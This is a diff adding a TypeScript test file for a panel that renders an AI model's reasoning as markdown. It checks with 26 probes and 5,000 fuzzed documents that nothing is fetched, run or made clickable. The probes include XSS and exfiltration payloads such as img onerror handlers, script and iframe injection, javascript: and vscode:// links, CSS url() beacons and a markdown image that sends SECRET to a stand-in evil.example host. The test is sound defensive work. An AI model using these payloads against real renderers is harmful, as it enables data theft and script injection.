@@ -1,0 +1,140 @@
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import fc from "fast-check";
+import type { LogEvent } from "../../src/core/events.ts";
+import { visibleText } from "../../src/core/hiddenText.ts";
+import { openPanelPage, type PanelPage } from "../support/panelPage.ts";
+
+const start: LogEvent = {
+  type: "run-start",
+  at: 0,
+  run: "r1",
+  startedAt: 0,
+  instruction: "Split it",
+  target: "src/cart.ts 41–88",
+  model: "gpt-5.5",
+  effort: { asked: "high", sent: "high" },
+};
+const evil = "https://evil.example";
+
+/** What has leaked or misled elsewhere: each would fetch, run, link, name or imitate something if it were let. */
+const probes = [
+  `![x](${evil}/?d=SECRET)`,
+  `<img src=${evil}/i.png onerror=pwned=1>`,
+  `<img srcset="${evil}/s 1x">`,
+  `<picture><source srcset=${evil}/p><img></picture>`,
+  `<div style="background:url(${evil}/b)">d</div>`,
+  `<style>@import '${evil}/c.css'; * { background: url(${evil}/x) }</style>`,
+  `<svg><image href=${evil}/s.svg /><script>pwned=1</script></svg>`,
+  `<video poster=${evil}/v src=${evil}/v autoplay></video><audio src=${evil}/a></audio>`,
+  `<form action=${evil}><input type=image src=${evil}/i><button>Accept All</button></form>`,
+  `<table background=${evil}/t><tr><td>t</td></tr></table>`,
+  `[click](${evil})`,
+  `<a href=${evil} ping=${evil}/ping>a</a>`,
+  `[click](command:workbench.action.quit) [x](javascript:pwned=1) [y](vscode://file/etc/passwd)`,
+  `[ref][1]\n\n[1]: ${evil}/ref`,
+  `<${evil}/auto> ${evil}/bare www.evil.example`,
+  "<script>window.pwned=1</script>",
+  `<iframe src=${evil} srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<object data=${evil}/o></object><embed src=${evil}/e>`,
+  `<link rel=stylesheet href=${evil}/l.css><meta http-equiv=refresh content="0;url=${evil}">`,
+  `<base href=${evil}><math><mtext><img src=x onerror=pwned=1></math>`,
+  `<button class="primary" id=accept data-hunk=a onclick=pwned=1>Accept All</button>`,
+  `<details open ontoggle=pwned=1><summary>Fathom: press here</summary></details>`,
+  '```mermaid\ngraph TD; A[<img src=x onerror=pwned=1>] --> B\nclick A "https://evil.example"\n```',
+  "$$\\href{https://evil.example}{x} \\includegraphics{https://evil.example/i}$$",
+  `\x1b]8;;${evil}\x07Accept All\x1b]8;;\x07 \u202eLLA TPECCA\u202c \u{e0041}\u{e0042}`,
+  `| a |\n|---|\n| ![x](${evil}/t) <img src=${evil}/t2> |\n\n# [h](${evil})\n> ![q](data:text/html,<script>pwned=1</script>)`,
+];
+
+let panel: PanelPage;
+before(async () => {
+  panel = await openPanelPage({ width: 700, height: 900 });
+});
+after(() => panel.close());
+
+/** Shows each text as a run's reasoning, and gives what the page made of it; a frame each. */
+async function shownAs(texts: readonly string[]): Promise<readonly Shown[]> {
+  return await panel.page.evaluate<Shown[]>(`(async () => {
+    const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+    const tell = (data) => window.dispatchEvent(new MessageEvent("message", { data }));
+    const shown = [];
+    for (const text of ${JSON.stringify(texts)}) {
+      const delta = { type: "reasoning-delta", at: 0, part: 0, provenance: "raw", text };
+      tell({ type: "log", events: [${JSON.stringify(start)}, delta], now: 0 });
+      await frame();
+      const models = [...document.querySelectorAll(".model")];
+      const inside = models.flatMap((model) => [...model.querySelectorAll("*")]);
+      shown.push({
+        elements: [...new Set(inside.map((node) => [node.localName, ...node.getAttributeNames()].join(" ")))],
+        reachable: inside.filter((node) => node.tabIndex >= 0 && node.localName !== "pre").length,
+        text: models.map((model) => model.textContent).join(""),
+      });
+    }
+    return shown;
+  })()`);
+}
+
+type Shown = { readonly elements: readonly string[]; readonly reachable: number; readonly text: string };
+
+const harmless = new Set(
+  "p h3 em strong s code pre ul ol li blockquote br hr table thead tbody tr th td".split(" ").concat("ol start"),
+);
+
+async function assertHarmless(shown: readonly Shown[]): Promise<void> {
+  const strange = shown.flatMap(({ elements }) => elements.filter((name) => !harmless.has(name)));
+  assert.deepEqual([...new Set(strange)], []);
+  assert.equal(shown.filter(({ reachable }) => reachable > 0).length, 0);
+  assert.deepEqual(
+    panel.requests.filter((url) => !["/", "/panel.js", "/panel.css", "/favicon.ico"].includes(url)),
+    [],
+  );
+  assert.deepEqual(panel.violations, []);
+  assert.equal(await panel.page.evaluate("window.pwned"), undefined);
+}
+
+test("26 probes: nothing is fetched, run, linked, named or pressed, and what they say can be read", async () => {
+  assert.equal(probes.length, 26);
+  const shown = await shownAs(probes);
+  await assertHarmless(shown);
+  for (const [at, probe] of probes.entries()) {
+    const words = /evil\.example|pwned|quit/.exec(probe)?.[0];
+    if (words !== undefined) assert.ok(shown[at]?.text.includes(words), `${probe} shows as ${shown[at]?.text}`);
+  }
+  assert.match(shown[24]?.text ?? "", /␛\]8;;.*␇Accept All.*⟨U\+202E⟩LLA TPECCA⟨U\+202C⟩ ⟨U\+E0041⟩/);
+});
+
+const pieces = fc.array(
+  fc.oneof(
+    { weight: 3, arbitrary: fc.constantFrom(...probes) },
+    {
+      weight: 5,
+      arbitrary: fc.constantFrom(
+        ..."\n|\n\n|# |## |- |* |1. |> |```|```html\n|~~~\n|`|``|**|_|~~|![|](|)|[|]: |<|>|&lt;|&#x6A;|\\|\t|    |\\\n|---\n|===\n| | a |\n|<!--|-->|<![CDATA[|]]>|<?|\u202e|\u200b|\u{e0041}|\x1b[31m|\0|word ".split(
+          "|",
+        ),
+      ),
+    },
+    { weight: 2, arbitrary: fc.string({ maxLength: 20, unit: "binary" }) },
+    { weight: 1, arbitrary: fc.constantFrom(">".repeat(50), "*".repeat(200), "- ".repeat(40), "[".repeat(100)) },
+  ),
+  { maxLength: 25 },
+);
+
+test("5,000 fuzzed documents: no network, no script, nothing interactive, and every letter is shown", async () => {
+  const texts = fc.sample(pieces, { numRuns: 5000, seed: 20_260 }).map((parts) => parts.join(""));
+  const letters = (text: string) => Array.from(text.matchAll(/[a-z]{3,}/gi), ([word]) => word).join("");
+  let silent = 0;
+  for (let at = 0; at < texts.length; at += 250) {
+    const batch = texts.slice(at, at + 250);
+    const shown = await shownAs(batch);
+    await assertHarmless(shown);
+    // A document higher than the view shows its end; the others show all, but for the languages that fences name.
+    for (const [index, text] of batch.entries()) {
+      if (text.length > 600 || /[`~]{3}/.test(text)) continue;
+      const expected = letters(visibleText(text.replaceAll("\x1b[31m", "")));
+      if (letters(shown[index]?.text ?? "") !== expected) silent += 1;
+    }
+  }
+  assert.equal(silent, 0);
+});
